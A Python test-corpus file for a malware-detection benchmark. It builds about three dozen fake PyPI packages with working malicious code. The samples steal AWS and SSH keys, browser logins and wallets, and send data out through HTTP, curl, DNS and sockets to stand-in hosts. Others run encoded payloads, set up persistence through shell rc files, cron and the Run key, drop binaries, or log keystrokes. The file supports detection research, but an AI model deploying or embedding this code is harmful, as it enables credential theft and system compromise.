"""The malicious half of the detection corpus: packages written here, in the styles PyPI
malware has used, one behaviour family each. Nothing reaches a real host: names are under
the reserved .invalid TLD and addresses in the documentation ranges (RFC 5737).

Written for this benchmark, not taken from any scanner's test corpus, and not shaped to
detain's rule tables: several samples hide the same deed in a different way.
"""

from __future__ import annotations

import base64
import codecs
import marshal
import textwrap
import zlib
from dataclasses import dataclass, field

PLAIN_SETUP = """\
from setuptools import setup

setup(name={name!r}, version="0.1.0", packages=[{name!r}])
"""
# As malware on PyPI does, a sample that imports a library declares it.
REQUIRING_SETUP = PLAIN_SETUP.replace("])", "],\n      install_requires={requires!r})")
SENDER = """\
import json, os, socket, urllib.request

def phone_home(payload):
    body = json.dumps({"h": socket.gethostname(), "p": payload}).encode()
    req = urllib.request.Request("https://api.pkg-metrics.invalid/v2/ingest", data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)
    except Exception:
        pass
"""
# The ELF header of a tiny x86-64 executable (what a dropper would carry, truncated).
ELF_HEAD = bytes.fromhex("7f454c4602010100000000000000000002003e0001000000781040000000"
                         "00004000000000000000") + b"\0" * 80


@dataclass
class Sample:
    name: str
    category: str
    files: dict[str, str | bytes] = field(default_factory=dict)
    what: str = ""
    # Where its behaviour runs when `detain package` installs and imports it: file -> the
    # lines (by a piece of their text) an observed event must point at. Empty: nothing of
    # it runs here, and `hidden` says why.
    deeds: dict[str, tuple[str, ...]] = field(default_factory=dict)
    hidden: str = ""


def _src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def _marshalled(code: str) -> str:
    return marshal.dumps(compile(code, "<payload>", "exec")).hex()


def samples() -> list[Sample]:
    stage2 = "import os\nos.system('id > /tmp/.o')\n"
    out = [
        Sample("awscli-helpers", "credential-theft-install", what="setup.py reads AWS keys", files={
            "setup.py": _src("""
                import os, urllib.request
                from setuptools import setup
                from setuptools.command.install import install

                def grab():
                    p = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
                    if os.path.exists(p):
                        data = open(p).read().encode()
                        urllib.request.urlopen("http://collector.exfil.invalid/c", data=data)

                class Install(install):
                    def run(self):
                        grab()
                        install.run(self)

                grab()
                setup(name="awscli-helpers", version="0.1.0", cmdclass={"install": Install})
                """)}),
        Sample("sshkey-sync", "credential-theft-install", what="install hook takes SSH keys",
               files={"setup.py": _src("""
                from pathlib import Path
                import http.client, base64
                from setuptools import setup
                from setuptools.command.develop import develop as _develop

                class develop(_develop):
                    def run(self):
                        super().run()
                        for key in ("id_rsa", "id_ed25519"):
                            f = Path.home() / ".ssh" / key
                            if f.is_file():
                                c = http.client.HTTPSConnection("keys.exfil.invalid")
                                c.request("PUT", "/k/" + key, base64.b64encode(f.read_bytes()))

                setup(name="sshkey-sync", version="1.0", cmdclass=dict(develop=develop))
                """)}),
        Sample("chromepass", "credential-theft-import", what="import copies browser logins",
               files={"setup.py": REQUIRING_SETUP.format(name="chromepass", requires=["requests"]),
                      "chromepass/__init__.py": _src("""
                import os, shutil, tempfile, requests

                HOOK = "https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp"
                base = os.path.join(os.environ.get("LOCALAPPDATA", os.path.expanduser("~")),
                                    "Google", "Chrome", "User Data", "Default")
                for name in ("Login Data", "Cookies"):
                    src = os.path.join(base, name)
                    if os.path.exists(src):
                        tmp = os.path.join(tempfile.gettempdir(), name.replace(" ", "_"))
                        shutil.copy(src, tmp)
                        with open(tmp, "rb") as fh:
                            requests.post(HOOK, files={"file": fh})
                """)}),
        Sample("pypi-token-check", "credential-theft-import", what="import reads .pypirc",
               files={"setup.py": PLAIN_SETUP.format(name="pypi_token_check"),
                      "pypi_token_check/__init__.py": _src("""
                import os, socket
                home = os.path.expanduser("~")
                loot = b""
                for rel in (".pypirc", ".git-credentials", ".netrc"):
                    try:
                        with open(os.path.join(home, rel), "rb") as f:
                            loot += f.read()
                    except OSError:
                        pass
                if loot:
                    s = socket.create_connection(("198.51.100.23", 443), timeout=2)
                    s.sendall(loot)
                    s.close()
                """)}),
        Sample("wallet-backup", "credential-theft-import", what="import reads crypto wallets",
               files={"setup.py": PLAIN_SETUP.format(name="wallet_backup"),
                      "wallet_backup/__init__.py": _src("""
                import glob, os, zipfile, io
                from .net import send
                roots = [os.path.expanduser(p) for p in (
                    "~/.electrum/wallets", "~/.config/Exodus/exodus.wallet",
                    "~/.bitcoin/wallet.dat")]
                buf = io.BytesIO()
                with zipfile.ZipFile(buf, "w") as z:
                    for r in roots:
                        for f in glob.glob(r + "*"):
                            z.write(f)
                send(buf.getvalue())
                """), "wallet_backup/net.py": _src("""
                import urllib.request
                def send(blob):
                    urllib.request.urlopen(urllib.request.Request(
                        "https://transfer.sh/w.zip", data=blob, method="PUT"))
                """)}),
        Sample("envsync", "exfiltration-urllib", what="POSTs the whole environment", files={
            "setup.py": PLAIN_SETUP.format(name="envsync"),
            "envsync/__init__.py": _src("""
                import os, json
                from urllib import request as r
                snapshot = {k: v for k, v in os.environ.items()}
                r.urlopen(r.Request("http://203.0.113.50:8080/env",
                                    data=json.dumps(snapshot).encode(), method="POST"))
                """)}),
        Sample("colorlog-ext", "exfiltration-urllib", what="sends user and host at import",
               files={"setup.py": PLAIN_SETUP.format(name="colorlog_ext"),
                      "colorlog_ext/__init__.py": "from ._t import phone_home\n"
                                                  "phone_home('import')\n",
                      "colorlog_ext/_t.py": SENDER}),
        Sample("reqs-telemetry", "exfiltration-requests", what="requests.post of identity",
               files={"setup.py": REQUIRING_SETUP.format(name="reqs_telemetry",
                                                         requires=["requests"]),
                      "reqs_telemetry/__init__.py": _src("""
                import getpass, platform, requests
                info = {"user": getpass.getuser(), "node": platform.node(),
                        "os": platform.platform()}
                try:
                    requests.post("https://c2.reqs-telemetry.invalid/beacon", json=info, timeout=4)
                except requests.RequestException:
                    pass
                """)}),
        Sample("session-keepalive", "exfiltration-requests", what="Session.put of env vars",
               files={"setup.py": REQUIRING_SETUP.format(name="session_keepalive",
                                                         requires=["requests"]),
                      "session_keepalive/__init__.py": _src("""
                import os
                from requests import Session
                s = Session()
                env = dict(os.environ)
                s.put("https://webhook.site/3f1c2a9e-0000-4000-8000-000000000000", data=str(env))
                """)}),
        Sample("curl-uploader", "exfiltration-curl", what="curl uploads /etc/passwd", files={
            "setup.py": PLAIN_SETUP.format(name="curl_uploader"),
            "curl_uploader/__init__.py": _src("""
                import subprocess
                subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", "@/etc/passwd",
                                "https://paste.exfil.invalid/u"], capture_output=True)
                """)}),
        Sample("build-helper", "exfiltration-curl", what="setup.py pipes curl to bash", files={
            "setup.py": _src("""
                import os
                from setuptools import setup
                os.system("curl -fsSL http://203.0.113.7/bootstrap.sh | bash >/dev/null 2>&1 &")
                setup(name="build-helper", version="0.2")
                """)}),
        Sample("dns-stats", "exfiltration-dns", what="hostname leaks in DNS labels", files={
            "setup.py": PLAIN_SETUP.format(name="dns_stats"),
            "dns_stats/__init__.py": _src("""
                import socket, getpass
                secret = (getpass.getuser() + "@" + socket.gethostname()).encode().hex()
                for i in range(0, len(secret), 40):
                    try:
                        socket.gethostbyname("%s.%d.q.exfil.invalid" % (secret[i:i+40], i))
                    except OSError:
                        pass
                """)}),
        Sample("resolver-cache", "exfiltration-dns", what="TXT lookups carry a token", files={
            "setup.py": REQUIRING_SETUP.format(name="resolver_cache", requires=["dnspython"]),
            "resolver_cache/__init__.py": _src("""
                import os, base64
                import dns.resolver
                token = os.getenv("GITHUB_TOKEN", "")
                label = base64.b32encode(token.encode()).decode().strip("=").lower()
                dns.resolver.resolve(f"{label[:60]}.t.exfil.invalid", "TXT")
                """)}),
        Sample("sockmon", "exfiltration-socket", what="raw TCP with an SSH key", files={
            "setup.py": PLAIN_SETUP.format(name="sockmon"),
            "sockmon/__init__.py": _src("""
                import os, socket
                k = os.path.expanduser("~/.ssh/id_ed25519")
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                try:
                    s.connect(("127.0.0.1", 9999))
                    s.sendall(open(k, "rb").read())
                except OSError:
                    pass
                """)}),
        Sample("udp-heartbeat", "exfiltration-socket", what="UDP datagrams with env", files={
            "setup.py": PLAIN_SETUP.format(name="udp_heartbeat"),
            "udp_heartbeat/__init__.py": _src("""
                import socket, os, pickle
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                u.sendto(pickle.dumps(os.environ.copy())[:1400], ("192.0.2.77", 53))
                """)}),
        Sample("fastjsonx", "encoded-exec", what="exec(zlib(base64(...)))", files={
            "setup.py": PLAIN_SETUP.format(name="fastjsonx"),
            "fastjsonx/__init__.py": "import base64, zlib\n_c = %r\nexec(zlib.decompress("
                                     "base64.b64decode(_c)))\n" % base64.b64encode(
                                         zlib.compress(stage2.encode())).decode()}),
        Sample("marshal-cache", "encoded-exec", what="marshalled code object run", files={
            "setup.py": PLAIN_SETUP.format(name="marshal_cache"),
            "marshal_cache/__init__.py": "import marshal, types\nCODE = %r\n"
                                         "types.FunctionType(marshal.loads(bytes.fromhex(CODE)),"
                                         " globals())()\n" % _marshalled(stage2)}),
        Sample("rot-utils", "encoded-exec", what="rot13 then exec, stepwise", files={
            "setup.py": PLAIN_SETUP.format(name="rot_utils"),
            "rot_utils/__init__.py": "import codecs\nS = %r\nsrc = codecs.decode(S, 'rot_13')\n"
                                     "code = compile(src, 'r', 'exec')\nexec(code)\n"
                                     % codecs.encode(stage2, "rot_13")}),
        Sample("reverse-str", "encoded-exec", what="reversed base64 in setup.py", files={
            "setup.py": "import base64\nfrom setuptools import setup\nblob = %r\n"
                        "stage = base64.b64decode(blob[::-1])\neval(compile(stage, '<s>', "
                        "'exec'))\nsetup(name='reverse-str', version='0.1')\n"
                        % base64.b64encode(stage2.encode()).decode()[::-1]}),
        Sample("sysutil-lite", "obfuscation", what="getattr with split names", files={
            "setup.py": PLAIN_SETUP.format(name="sysutil_lite"),
            "sysutil_lite/__init__.py": _src("""
                m = __import__("o" + "s")
                run = getattr(m, "sys" + "tem")
                run("uname -a > /tmp/.u")
                """)}),
        Sample("builtins-mirror", "obfuscation", what="__builtins__ lookups, mangled names",
               files={"setup.py": PLAIN_SETUP.format(name="builtins_mirror"),
                      "builtins_mirror/__init__.py": _src("""
                IlIlIlIl = globals()["__builtins__"]
                lIlIlIlI = IlIlIlIl if isinstance(IlIlIlIl, dict) else IlIlIlIl.__dict__
                IIlIIlII = lIlIlIlI["ev" + "al"]
                llIIllII = "__imp" + "ort__('os').getcwd()"
                IIlIIlII(llIIllII)
                """)}),
        Sample("armored-core", "obfuscation", what="PyArmor-protected module", files={
            "setup.py": PLAIN_SETUP.format(name="armored_core"),
            "armored_core/__init__.py": "# Pyarmor 8.5.3 (trial), 000000, 2024-01-01\n"
                                        "from .pyarmor_runtime_000000 import __pyarmor__\n"
                                        "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03"
                                        "\\x0b\\x00\\xa7\\r\\r\\n\\x80\\x00\\x01')\n",
            "armored_core/pyarmor_runtime_000000/__init__.py":
                "def __pyarmor__(*a):\n    pass\n"}),
        Sample("charcode", "obfuscation", what="exec of chr() codes", files={
            "setup.py": PLAIN_SETUP.format(name="charcode"),
            "charcode/__init__.py": "exec(''.join(map(chr, %r)))\n"
                                    % [ord(c) for c in stage2]}),
        Sample("shell-theme", "persistence", what="appends to shell rc files", files={
            "setup.py": PLAIN_SETUP.format(name="shell_theme"),
            "shell_theme/__init__.py": _src("""
                from pathlib import Path
                line = "\\n(curl -s http://203.0.113.9/u | sh) >/dev/null 2>&1 &\\n"
                for rc in (".bashrc", ".zshrc"):
                    p = Path.home() / rc
                    with p.open("a") as f:
                        f.write(line)
                """)}),
        Sample("auto-updater", "persistence", what="systemd user unit and crontab", files={
            "setup.py": PLAIN_SETUP.format(name="auto_updater"),
            "auto_updater/__init__.py": _src("""
                import os, subprocess, sys
                unit_dir = os.path.expanduser("~/.config/systemd/user")
                os.makedirs(unit_dir, exist_ok=True)
                with open(os.path.join(unit_dir, "pkg-update.service"), "w") as f:
                    f.write("[Service]\\nExecStart=%s -m auto_updater.agent\\n" % sys.executable)
                job = "*/30 * * * * %s -m auto_updater.agent\\n" % sys.executable
                subprocess.run("(crontab -l; echo '%s') | crontab -" % job, shell=True)
                """)}),
        Sample("site-boost", "persistence", what="setup.py drops a .pth file", files={
            "setup.py": _src("""
                import os, site
                from setuptools import setup
                from setuptools.command.install import install

                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        target = os.path.join(site.getsitepackages()[0], "zzz_boost.pth")
                        with open(target, "w") as fh:
                            fh.write("import os; os.system('sh ~/.cache/.b &')\\n")

                setup(name="site-boost", version="0.3", cmdclass={"install": PostInstall})
                """)}),
        Sample("win-startup", "persistence", what="Windows Run key", files={
            "setup.py": PLAIN_SETUP.format(name="win_startup"),
            "win_startup/__init__.py": _src("""
                import sys
                try:
                    import winreg
                    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                                       r"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                                       0, winreg.KEY_SET_VALUE)
                    winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ,
                                      sys.executable + " -m win_startup")
                except ImportError:
                    pass
                """)}),
        Sample("post-develop", "cmdclass-override", what="develop hook spawns a daemon", files={
            "setup.py": _src("""
                import subprocess, sys
                from setuptools import setup
                from setuptools.command.develop import develop

                class Dev(develop):
                    def run(self):
                        subprocess.Popen([sys.executable, "-c",
                                          "import time; time.sleep(3600)"],
                                         start_new_session=True)
                        develop.run(self)

                setup(name="post-develop", version="0.1", cmdclass={"develop": Dev})
                """)}),
        Sample("egg-fetch", "cmdclass-override", what="egg_info hook downloads and runs", files={
            "setup.py": _src("""
                import os, stat, tempfile, urllib.request, subprocess
                from setuptools import setup
                from setuptools.command.egg_info import egg_info

                class EggInfo(egg_info):
                    def run(self):
                        dst = os.path.join(tempfile.gettempdir(), ".cache-helper")
                        urllib.request.urlretrieve("http://updates.egg-fetch.invalid/h", dst)
                        os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
                        subprocess.Popen([dst])
                        super().run()

                setup(name="egg-fetch", version="0.1", cmdclass={"egg_info": EggInfo})
                """)}),
        Sample("native-loader", "native-payload", what="base64 ELF dropped and run", files={
            "setup.py": PLAIN_SETUP.format(name="native_loader"),
            "native_loader/__init__.py": "import base64, os, subprocess\nBIN = %r\n"
                                         "p = '/tmp/.nl'\nwith open(p, 'wb') as f:\n"
                                         "    f.write(base64.b64decode(BIN))\n"
                                         "os.chmod(p, 0o755)\nsubprocess.Popen([p])\n"
                                         % base64.b64encode(ELF_HEAD).decode()}),
        Sample("speedups-bin", "native-payload", what="ships an ELF as data", files={
            "setup.py": PLAIN_SETUP.format(name="speedups_bin"),
            "speedups_bin/__init__.py": "import ctypes, os\nctypes.CDLL(os.path.join("
                                        "os.path.dirname(__file__), 'data', 'libfast.dat'))\n",
            "speedups_bin/data/libfast.dat": ELF_HEAD}),
        Sample("mac-helper", "native-payload", what="ships a big-endian Mach-O", files={
            "setup.py": PLAIN_SETUP.format(name="mac_helper"),
            "mac_helper/__init__.py": "",
            "mac_helper/bin/helper": b"\xfe\xed\xfa\xcf" + b"\0" * 60}),
        Sample("clipwatch", "spyware", what="swaps wallet addresses in the clipboard", files={
            "setup.py": PLAIN_SETUP.format(name="clipwatch"),
            "clipwatch/__init__.py": _src("""
                import re, threading, time
                import pyperclip
                MINE = "bc1qexampleexampleexampleexampleexample0"
                def loop():
                    while True:
                        text = pyperclip.paste()
                        if re.fullmatch(r"bc1[a-z0-9]{25,60}", text or ""):
                            pyperclip.copy(MINE)
                        time.sleep(0.5)
                threading.Thread(target=loop, daemon=True).start()
                """)}),
        Sample("keystats", "spyware", what="keyboard listener", files={
            "setup.py": PLAIN_SETUP.format(name="keystats"),
            "keystats/__init__.py": _src("""
                from pynput.keyboard import Listener
                log = []
                def on_press(key):
                    log.append(str(key))
                Listener(on_press=on_press).start()
                """)}),
        Sample("screen-share", "spyware", what="periodic screenshots", files={
            "setup.py": PLAIN_SETUP.format(name="screen_share"),
            "screen_share/__init__.py": _src("""
                from PIL import ImageGrab
                import io
                shot = ImageGrab.grab()
                buf = io.BytesIO()
                shot.save(buf, "PNG")
                """)}),
    ]
    for sample in out:
        sample.deeds = DEEDS.get(sample.name, {})
        sample.hidden = HIDDEN.get(sample.name, "")
        assert bool(sample.deeds) != bool(sample.hidden), sample.name
    return out


# The labels of the dynamic column: where each sample's deed is, or why none runs here.
DEEDS: dict[str, dict[str, tuple[str, ...]]] = {
    "awscli-helpers": {"setup.py": ("data = open(p)", "urllib.request.urlopen(")},
    "chromepass": {"chromepass/__init__.py": ("shutil.copy(", "requests.post(")},
    "pypi-token-check": {"pypi_token_check/__init__.py": (
        "with open(os.path.join(home", "socket.create_connection(", "s.sendall(")},
    "wallet-backup": {"wallet_backup/net.py": ("urllib.request.urlopen(",),
                      "wallet_backup/__init__.py": ("z.write(f)", "send(buf.getvalue())")},
    "reqs-telemetry": {"reqs_telemetry/__init__.py": ("requests.post(",)},
    "session-keepalive": {"session_keepalive/__init__.py": ("s.put(",)},
    "resolver-cache": {"resolver_cache/__init__.py": ('os.getenv("GITHUB_TOKEN"',
                                                      "dns.resolver.resolve(")},
    "envsync": {"envsync/__init__.py": ("os.environ.items()", "r.urlopen(")},
    "colorlog-ext": {"colorlog_ext/_t.py": ("urllib.request.urlopen(req",)},
    "curl-uploader": {"curl_uploader/__init__.py": ("subprocess.run([",)},
    "build-helper": {"setup.py": ("os.system(",)},
    "dns-stats": {"dns_stats/__init__.py": ("socket.gethostbyname(",)},
    "sockmon": {"sockmon/__init__.py": ("s.connect((", "s.sendall(")},
    "udp-heartbeat": {"udp_heartbeat/__init__.py": ("u.sendto(",)},
    "fastjsonx": {"fastjsonx/__init__.py": ("exec(zlib",)},
    "marshal-cache": {"marshal_cache/__init__.py": ("types.FunctionType(",)},
    "rot-utils": {"rot_utils/__init__.py": ("exec(code)",)},
    "reverse-str": {"setup.py": ("eval(compile(",)},
    "sysutil-lite": {"sysutil_lite/__init__.py": ('run("uname',)},
    "builtins-mirror": {"builtins_mirror/__init__.py": ("IIlIIlII(llIIllII)",)},
    "charcode": {"charcode/__init__.py": ("exec(",)},
    "shell-theme": {"shell_theme/__init__.py": ('p.open("a")',)},
    "auto-updater": {"auto_updater/__init__.py": (
        "os.makedirs(", "with open(os.path.join(unit_dir", "subprocess.run(")},
    "site-boost": {"setup.py": ('with open(target, "w")',)},
    "egg-fetch": {"setup.py": ("urllib.request.urlretrieve(", "os.chmod(dst",
                               "subprocess.Popen([dst])")},
    "native-loader": {"native_loader/__init__.py": (
        "with open(p, 'wb')", "os.chmod(p", "subprocess.Popen([p])")},
    "speedups-bin": {"speedups_bin/__init__.py": ("ctypes.CDLL(",)},
}
HIDDEN = {
    "sshkey-sync": "a develop hook: `pip install` never runs it",
    "post-develop": "a develop hook: `pip install` never runs it",
    "armored-core": "the PyArmor runtime shipped is a stub that does nothing",
    "win-startup": "Windows only (winreg)",
    "mac-helper": "ships a Mach-O binary that nothing runs",
    "clipwatch": "imports pyperclip, which it does not declare: ImportError first",
    "keystats": "imports pynput, which it does not declare: ImportError first",
    "screen-share": "imports PIL, which it does not declare: ImportError first",
}
